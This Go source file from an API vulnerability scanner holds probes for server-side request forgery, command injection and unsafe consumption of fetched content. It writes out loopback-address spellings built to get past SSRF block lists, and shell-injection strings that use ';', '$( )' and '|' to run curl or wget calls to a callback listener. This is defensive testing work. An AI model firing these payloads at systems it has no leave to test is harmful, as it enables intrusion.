package check

import (
	"context"
	"fmt"
	"net"
	"net/url"
	"strings"
	"sync"
	"time"

	"github.com/crenel-project/crenel/internal/scan/scenario"
)

// spellings are ways to write an address on this machine that a list of
// forbidden names and numbers does not have: %s is the port. Only a listener on
// the loopback interface can be reached by them.
var spellings = []struct{ host, what string }{
	{"localhost:%s", "by its name"}, {"LOCALHOST:%s", "by its name in capitals"}, {"127.1:%s", "in short"}, {"2130706433:%s", "as one number"}, {"0x7f000001:%s", "as one hexadecimal number"},
	{"0177.0.0.1:%s", "with an octal number"}, {"0:%s", "as nothing"}, {"[::ffff:127.0.0.1]:%s", "as an IPv6 address"}, {"crenel.example@127.0.0.1:%s", "behind another name"},
}

// ssrfSpelled: the plain address of this machine is refused; others of it may not be.
func (p *Probe) ssrfSpelled(ctx context.Context, s *slot) error {
	host, port := listenerAt(p.Listener.Base())
	if host != "127.0.0.1" {
		return nil
	}
	// Where another address is not let in either, it is the caller who is not.
	out, err := p.send(ctx, s.with("http://crenel-scan.example/crenel"))
	if err != nil || out.Status == 429 || out.Status == 401 || out.Status == 403 {
		return err
	}
	for _, sp := range spellings {
		address := p.Listener.Address()
		u, err := url.Parse(address)
		if err != nil {
			return fmt.Errorf("reading the listener's address: %w", err)
		}
		at := "http://" + strings.ReplaceAll(sp.host, "%s", port) + u.Path
		x, err := p.send(ctx, s.with(at))
		if err != nil {
			return err
		}
		if x.Status/100 == 4 && x.Status != 404 && x.Status != 408 && x.Status != 424 || !p.Listener.Called(ctx, address, soon) {
			continue
		}
		var l steps
		st, err := p.slotStep(s, "plain", scenario.Control, "the plain address of the listener is not called", "${listener.none}", scenario.Expect{Status: "any"}, scenario.Expect{Uncalled: "none", By: soon})
		l.add(st, err)
		st, err = p.slotStep(s, "attack", scenario.Attack, "the same address, written "+sp.what+", is called", "http://"+strings.ReplaceAll(sp.host, "%s", port)+"/${key}", scenario.Expect{Status: "any"}, scenario.Expect{Called: "call", By: 3 * time.Second})
		st.Compute = []scenario.Compute{{Set: "key", Do: "text.after", Args: map[string]string{"text": "${listener.call}", "last": "/"}}}
		l.add(st, err)
		if ok, err := p.injected(ctx, s, "server-side request forgery", "The server calls an address inside its network that a caller named, written so that what forbids it does not know it.", &l); err != nil || ok {
			return err
		}
	}
	return nil
}

// listenerAt is where the listener is.
func listenerAt(base string) (host, port string) {
	u, err := url.Parse(base)
	if err != nil {
		return "", ""
	}
	host, port, err = net.SplitHostPort(u.Host)
	if err != nil {
		return u.Host, "80"
	}
	return host, port
}

// shellCalls are commands that call an address (%s), behind what ends a word of a
// shell: in one text, so that one request tells.
var shellCalls = []string{
	";curl -s -m 3 %[1]s;wget -q -T 3 -O /dev/null %[1]s;",
	"$(curl -s -m 3 %[1]s||wget -q -T 3 -O /dev/null %[1]s)",
	"';curl -s -m 3 %[1]s||wget -q -T 3 -O /dev/null %[1]s;'",
	`";curl -s -m 3 %[1]s||wget -q -T 3 -O /dev/null %[1]s;"`,
	"\ncurl -s -m 3 %[1]s||wget -q -T 3 -O /dev/null %[1]s\n",
	"|curl -s -m 3 %[1]s",
}

const maxShellSlots = 120

// commandsCall tries commands whose output nobody is shown: they call the listener.
func (p *Probe) commandsCall(ctx context.Context) error {
	if p.Listener == nil {
		return nil
	}
	type sent struct {
		s       *slot
		address string
	}
	var mu sync.Mutex
	var list []sent
	err := p.everySlot(ctx, func(s *slot) bool { return !takesURL(s.in) }, func(ctx context.Context, s *slot) error {
		mu.Lock()
		full := len(list) >= maxShellSlots
		mu.Unlock()
		if full {
			return nil
		}
		address := p.Listener.Address()
		// The quoted forms and the plain ones together: what stands before the
		// first that fits is another command that fails.
		text := s.value
		for _, f := range shellCalls[:3] {
			text += fmt.Sprintf(f, address)
		}
		if in := s.in; in.Schema != nil {
			if most := in.Schema.Bounds().MaxLength; most >= 0 && len(text) > most {
				text = s.value + fmt.Sprintf(shellCalls[5], address)
			}
		}
		if _, err := p.send(ctx, s.with(text)); err != nil {
			return err
		}
		mu.Lock()
		defer mu.Unlock()
		list = append(list, sent{s, address})
		return nil
	})
	if err != nil || len(list) == 0 {
		return err
	}
	p.Listener.Called(ctx, list[len(list)-1].address, soon)
	for _, c := range list {
		if len(p.Listener.Hits(c.address)) == 0 {
			continue
		}
		for _, f := range shellCalls {
			var l steps
			l.add(p.slotStep(c.s, "plain", scenario.Control, "the address alone, with the commands' names, is called by nobody", c.s.value+" curl ${listener.none}", scenario.Expect{Status: "any"}, scenario.Expect{Uncalled: "none", By: soon}))
			l.add(p.slotStep(c.s, "attack", scenario.Attack, "behind what ends a shell's word, it is", c.s.value+fmt.Sprintf(f, "${listener.call}"), scenario.Expect{Status: "any"}, scenario.Expect{Called: "call", By: 1500 * time.Millisecond}))
			ok, err := p.injected(ctx, c.s, "command injection", "What stands behind the character that ends a shell's word is run by the server's shell: here, a call of an address.", &l)
			if err != nil {
				return err
			}
			if ok {
				break
			}
		}
	}
	return nil
}

var _ = register(&Check{
	ID: "unsafe-consumption", Title: "What another server answers is taken as it comes",
	OWASP: "API10:2023", CWE: "CWE-20", WSTG: "WSTG-BUSL-01",
	CVSS:  "CVSS:4.0/AV:N/AC:L/AT:P/PR:L/UI:N/VC:L/VI:L/VA:N/SC:N/SI:N/SA:N",
	About: "Where the server fetches an address that a caller names, and the scanner's listener can be that address, answers with a redirect to another address, with a body without end, and with a page.",
	Proof: "The other address is called as well; or forty megabytes are taken; or the page is given on as a page of the API's own. Controls: the plain address is fetched.",
	Fix:   "Bound size and time of what is fetched, follow no redirects (or check each), take the type that you expect, and check what it says as strictly as a caller's body.",
	Mode:  Default, Late: true,
	Run: unsafeConsumption,
})

func unsafeConsumption(ctx context.Context, p *Probe) error {
	if p.Listener == nil {
		return nil
	}
	return p.everySlot(ctx, func(s *slot) bool { return takesURL(s.in) && (s.op != nil) }, func(ctx context.Context, s *slot) error {
		address := p.Listener.Address()
		x, err := p.send(ctx, s.with(address))
		if err != nil || x.Status/100 == 4 || !p.Listener.Called(ctx, address, soon) {
			return err
		}
		for _, h := range []struct {
			where, path, what, cwe, vector string
			expect                         []scenario.Expect
			aggressive                     bool
		}{
			{"redirect", "/redirect/${other}", "follows redirects to any address", "CWE-918", "", []scenario.Expect{{Status: "any"}, {Called: "other", By: 2 * time.Second}}, false},
			{"size", "/huge/${other}", "takes bodies of any size", "CWE-770", "CVSS:4.0/AV:N/AC:L/AT:P/PR:L/UI:N/VC:N/VI:N/VA:L/SC:N/SI:N/SA:N", []scenario.Expect{{Status: "any"}, {Called: "other", By: 8 * time.Second}}, true},
			{"page", "/page/${canary.page}", "gives pages on as its own", "CWE-79", p.pageVector(s.op, s.call.As), append([]scenario.Expect{{Status: "2xx", Matches: `<script>/\*${canary.page}`}}, scenario.Expect{Header: "Content-Type", Matches: "(?i)text/html"}, scenario.Expect{Header: "Content-Security-Policy", Missing: true}), false},
		} {
			if h.aggressive && p.Mode < Aggressive {
				continue
			}
			if err := p.consumes(ctx, s, h.where, h.path, h.what, h.cwe, h.vector, h.expect); err != nil {
				return err
			}
		}
		return nil
	})
}

func (p *Probe) consumes(ctx context.Context, s *slot, where, path, what, cwe, vector string, expect []scenario.Expect) error {
	var l steps
	l.add(p.slotStep(s, "plain", scenario.Control, "the plain address is fetched", "${listener.plain}", scenario.Expect{Status: "any"}, scenario.Expect{Called: "plain", By: 2 * time.Second}))
	st, err := p.slotStep(s, "attack", scenario.Attack, "the server "+what, "${listener.call}"+path, expect...)
	st.Compute = []scenario.Compute{{Set: "other", Do: "text.after", Args: map[string]string{"text": "${listener.other}", "last": "/"}}}
	l.add(st, err)
	if l.err != nil {
		return nil //nolint:nilerr // a call that cannot be written as a step proves nothing
	}
	_, err = p.Prove(ctx, Hypothesis{
		Op: s.op, Where: s.in.Where() + " " + where, CWE: cwe, CVSS: vector, Title: fmt.Sprintf("%s %s %s", s.op.Method, s.op.Path, what),
		Description: "What is fetched from an address that a caller names is taken as it comes: the server " + what + ".",
		Scenario:    &scenario.Scenario{Name: "what another server answers", Steps: l.list},
	})
	return err
}
